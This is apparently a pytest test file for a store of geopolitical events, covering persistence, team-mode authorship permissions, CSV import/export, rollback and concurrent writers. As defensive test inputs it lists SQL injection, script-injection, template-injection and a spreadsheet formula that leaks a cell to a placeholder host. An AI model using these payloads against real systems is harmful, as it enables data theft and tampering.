"""My events on both backends (tests/geo/store/conftest.py): keeping, listing, deleting, importing, concurrent
writers, and who sees, deletes and publishes what in team mode."""

import sqlite3
import threading
from dataclasses import replace
from datetime import UTC, datetime

import psycopg
import pytest

from geo.dates import parse_fuzzy
from geo.places.gazetteer import Place
from geo.problems import DataError
from geo.store.authorship import SOLO, Authorship, NotAllowed, Viewer
from geo.store.my_events import Kept, MyEventStore, new_event
from geo.store.my_events_files import my_events_csv
from tests.conftest import HOSTILE

GYUMRI = Place("gn:616635", "Gyumri", "city", 40.79305, 43.84635, "ARM", "616635", 114667)
NOW = datetime(2024, 2, 23, 9, 30, tzinfo=UTC)
SOLO_KEPT = Authorship(None, NOW)
ALICE, BOB, READER = Viewer("alice", team=True), Viewer("bob", team=True), Viewer(None, team=True)


def event(title: str = "Russian base stays in Gyumri", start: str = "2024-02-22", **fields):
    place, countries = fields.pop("place", GYUMRI), fields.pop("countries", ["ARM", "RUS"])
    return new_event(title, parse_fuzzy(start), place, countries=countries, now=NOW, **fields)


def by(name: str | None, published: bool = False) -> Authorship:
    return Authorship(name, NOW, published)


def titles(events) -> list[str]:
    return sorted(e.title for e in events)


def test_a_new_event_carries_the_resolved_place_and_a_uuid():
    made = event(note="seen in <b>Azatutyun</b>", source="https://example.org/a")
    assert (made.place_name, made.lat, made.lon, made.place_kind, made.place_country) == (
        "Gyumri",
        40.79305,
        43.84635,
        "city",
        "ARM",
    )
    assert made.countries == ("ARM", "RUS") and made.note == "seen in <b>Azatutyun</b>" and made.created_at == NOW
    assert len(made.id) == 36 and made.id != event().id


def test_events_survive_a_reopening_and_can_be_deleted(opener):
    first, second = event(), event("Summit in Yerevan", "2023-10")
    store = opener()
    store.add(first, SOLO_KEPT, SOLO)
    store.add(second, SOLO_KEPT, SOLO)
    reopened = opener()  # a new process would do the same: nothing is cached in memory
    assert reopened.events(SOLO) == [second, first]  # by start date
    assert reopened.get(first.id, SOLO) == Kept(first, SOLO_KEPT)
    assert reopened.get("not-there", SOLO) is None
    assert reopened.delete([first.id, "not-there", first.id], SOLO) == 1
    assert opener().events(SOLO) == [second]


def test_single_user_mode_shows_lists_and_deletes_everything(store):
    """An event kept in single-user mode has no author; kept by a name (a store used by a team before), still shown."""
    mine, named = event("Mine"), event("Named")
    store.add(mine, SOLO_KEPT, SOLO)
    store.add(named, by("alice", published=False), SOLO)
    assert titles(store.events(SOLO)) == titles(k.event for k in store.mine(SOLO)) == ["Mine", "Named"]
    assert store.delete([mine.id, named.id], SOLO) == 2


@pytest.fixture
def team_store(store) -> MyEventStore:
    """Alice's draft, Alice's published event, Bob's draft, and one kept before team mode (nobody's)."""
    for title, authorship, viewer in [
        ("Alice draft", by("alice"), ALICE),
        ("Alice published", by("alice", published=True), ALICE),
        ("Bob draft", by("bob"), BOB),
        ("Solo", SOLO_KEPT, SOLO),
    ]:
        store.add(event(title), authorship, viewer)
    return store


EVERY_TITLE = ["Alice draft", "Alice published", "Bob draft", "Solo"]


@pytest.mark.parametrize(
    ("viewer", "shown", "listed"),
    [
        (ALICE, ["Alice draft", "Alice published"], ["Alice draft", "Alice published"]),
        (BOB, ["Alice published", "Bob draft"], ["Bob draft"]),
        (READER, ["Alice published"], []),
        (
            SOLO,
            ["Alice draft", "Alice published", "Bob draft", "Solo"],
            ["Alice draft", "Alice published", "Bob draft", "Solo"],
        ),
    ],
)
def test_readers_see_published_events_and_analysts_list_their_own(team_store, viewer, shown, listed):
    assert titles(team_store.events(viewer)) == shown
    assert titles(k.event for k in team_store.mine(viewer)) == listed


@pytest.mark.parametrize(
    ("viewer", "others"),
    [(ALICE, []), (BOB, ["Alice published"]), (READER, ["Alice published"]), (SOLO, [])],
)
def test_the_map_tells_the_teams_events_from_the_readers_own(team_store, viewer, others):
    shown, theirs = team_store.on_map(viewer)
    assert shown == team_store.events(viewer)
    assert sorted(e.title for e in shown if e.id in theirs) == others


def test_get_answers_only_what_the_viewer_may_see(team_store):
    drafts = {k.event.title: k.event.id for k in team_store.mine(SOLO)}
    assert team_store.get(drafts["Alice draft"], ALICE).authorship == by("alice")
    assert team_store.get(drafts["Alice draft"], BOB) is None
    assert team_store.get(drafts["Alice published"], READER).authorship == by("alice", published=True)


@pytest.mark.parametrize("stranger", [BOB, READER, Viewer("alice' OR '1'='1", team=True), Viewer("ALICE", team=True)])
def test_only_the_author_deletes_and_publishes(team_store, stranger):
    """Enforced by the store, whatever the screen offers; a name is a bound value, never SQL."""
    alices = [k.event.id for k in team_store.mine(ALICE)]
    assert team_store.delete(alices, stranger) == 0
    assert team_store.publish(alices, stranger) == 0
    assert titles(team_store.events(READER)) == ["Alice published"]
    assert team_store.delete(alices, ALICE) == 2
    assert titles(team_store.events(SOLO)) == ["Bob draft", "Solo"]


@pytest.mark.parametrize(
    ("authorship", "viewer"), [(SOLO_KEPT, READER), (by("alice"), READER), (by("alice"), BOB), (SOLO_KEPT, ALICE)]
)
def test_the_store_refuses_a_readers_events_and_events_in_anothers_name(store, authorship, viewer):
    """Enforced by the store, not only by Ingest showing a reader a sign-in link instead of its form."""
    with pytest.raises(NotAllowed):
        store.add(event(), authorship, viewer)
    with pytest.raises(NotAllowed):
        store.import_file("one.csv", my_events_csv([event()]).encode(), authorship, viewer)
    assert store.events(SOLO) == []


def test_publishing_is_an_explicit_action_and_can_be_withdrawn(team_store):
    draft = next(k.event for k in team_store.mine(ALICE) if k.event.title == "Alice draft")
    assert team_store.publish([draft.id], ALICE) == 1
    assert titles(team_store.events(READER)) == ["Alice draft", "Alice published"]
    assert team_store.get(draft.id, BOB).authorship.published
    assert team_store.publish([draft.id], ALICE, published=False) == 1
    assert titles(team_store.events(READER)) == ["Alice published"]


TYPED = [
    "if a<b and c>d",
    "AT&T &amp; <b>bold</b>",
    "Talks <script>alert(1)</script>in <i>Kant</i>",
    '=HYPERLINK("https://example.org/?leak="&A1,"Gyumri")',
    "+7 dead",
    "-1 tank",
    "@SUM(A1)",
    "'=typed",
    "{{ 7*7 }} {% if 1 %}x{% endif %} {# #}",
    "line one\rline two\r\nthree\nfour",
    "tab\tinside",
    "javascript:alert(1)",
    "control \x01\x1f\x7f chars",
    "Şuşa — «Xankəndi» 中文 🙂",
    "'); DROP TABLE events; --",
    "%s %(x)s ? :name $1",
    *HOSTILE,
]


@pytest.mark.parametrize("typed", TYPED)
def test_text_is_kept_exactly_as_typed(store, typed):
    """Every output escapes text, so nothing is stripped on the way in: `if a<b and c>d` used to become `if ad`."""
    made = event(typed, note=typed, source=typed, place_name=typed)
    store.add(made, by(typed), SOLO)
    kept = store.get(made.id, Viewer(typed, team=True))
    assert (kept.event.title, kept.event.note, kept.event.source, kept.event.place_name) == (typed,) * 4
    assert kept.authorship.author == typed


def test_a_nul_character_is_refused_before_any_backend_sees_it():
    """PostgreSQL's text cannot hold it; refusing it for both keeps the backends alike (SQLite would keep it)."""
    with pytest.raises(DataError, match="note: contains a NUL character"):
        event(note="before\x00after")


def test_every_imported_event_records_who_imported_it_and_when(store):
    data = my_events_csv([event("One"), event("Two")]).encode()
    report = store.import_file("two.csv", data, by("alice"), ALICE)
    assert (report.added, report.already_present) == (2, 0)
    assert {k.authorship for k in store.mine(ALICE)} == {by("alice")}
    assert store.mine(BOB) == [] and store.events(READER) == []


def test_importing_the_same_events_twice_adds_them_once(store):
    store.add(event(), SOLO_KEPT, SOLO)
    report = store.import_file("again.csv", store.export_csv(SOLO).encode(), SOLO_KEPT, SOLO)
    assert (report.added, report.already_present) == (0, 1)
    assert len(store.events(SOLO)) == 1


def test_an_export_holds_my_events_only(team_store):
    exported = team_store.export_csv(BOB)
    assert "Bob draft" in exported and "Alice" not in exported
    assert "Alice published" in team_store.export_geojson(ALICE) and "Bob" not in team_store.export_geojson(ALICE)


def test_a_failure_half_way_through_an_import_rolls_everything_back(store):
    """The fifth event breaks the table's own check (a latitude past the pole): the four before it go too."""
    store.add(event(), SOLO_KEPT, SOLO)
    batch = [event(f"Event {n}") for n in range(10)]
    batch[4] = replace(batch[4], lat=91.0)
    with pytest.raises((sqlite3.IntegrityError, psycopg.errors.CheckViolation)):
        store.import_events(batch, SOLO_KEPT, SOLO)
    assert titles(store.events(SOLO)) == ["Russian base stays in Gyumri"]


def test_two_writers_with_their_own_connections_both_keep_their_events(opener):
    opener()  # the schema exists before the race, as it does once the app has started
    start = threading.Barrier(2)
    errors = []

    def writer(name: str) -> None:
        own = opener()
        start.wait()
        try:
            for n in range(40):
                own.add(event(f"{name} {n}"), by(name), Viewer(name, team=True))
        except Exception as error:  # noqa: BLE001 - reported below
            errors.append(error)

    threads = [threading.Thread(target=writer, args=(name,)) for name in ("left", "right")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert titles(opener().events(SOLO)) == sorted([f"left {n}" for n in range(40)] + [f"right {n}" for n in range(40)])


def test_two_analysts_importing_the_same_file_at_once_add_each_event_once(opener):
    """The primary key decides, not a check made before writing: together the two imports add each event once."""
    opener()
    data = my_events_csv([event(f"Shared {n}") for n in range(60)]).encode()
    start, reports = threading.Barrier(2), []

    def importer(name: str) -> None:
        own = opener()
        start.wait()
        reports.append(own.import_file("shared.csv", data, by(name), Viewer(name, team=True)))

    threads = [threading.Thread(target=importer, args=(name,)) for name in ("alice", "bob")]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sum(r.added for r in reports) == 60 and sum(r.already_present for r in reports) == 60
    assert len(opener().events(SOLO)) == 60
